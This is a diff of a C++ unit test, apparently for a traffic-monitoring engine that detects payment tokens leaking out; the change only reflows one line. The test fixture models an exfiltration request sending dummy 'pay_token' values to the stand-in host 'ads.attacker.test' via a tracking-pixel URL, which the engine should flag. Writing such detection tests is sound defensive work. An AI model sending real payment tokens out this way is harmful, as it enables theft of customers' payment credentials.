@@ -184,8 +184,9 @@ TEST_CASE("engine: a ClientHello to a pay host is a hello event with the random,
 TEST_CASE("engine: several tokens in one HTTP request share its request number and host") {
   Lab lab;
   lab.create("491701234567", 0x10, 0x20);
-  auto ev = lab.http(0x20, "ads.attacker.test",
-                     "/p.gif?pay_token=aaaaaaaaaaaaaaaa1&pay_token=bbbbbbbbbbbbbbbb2&pay_token=cccccccccccccccc3", 40010);
+  auto ev =
+      lab.http(0x20, "ads.attacker.test",
+               "/p.gif?pay_token=aaaaaaaaaaaaaaaa1&pay_token=bbbbbbbbbbbbbbbb2&pay_token=cccccccccccccccc3", 40010);
   REQUIRE(ev.size() == 3);
   for (auto& e : ev) {
     CHECK(e.type == EventType::Sighting);
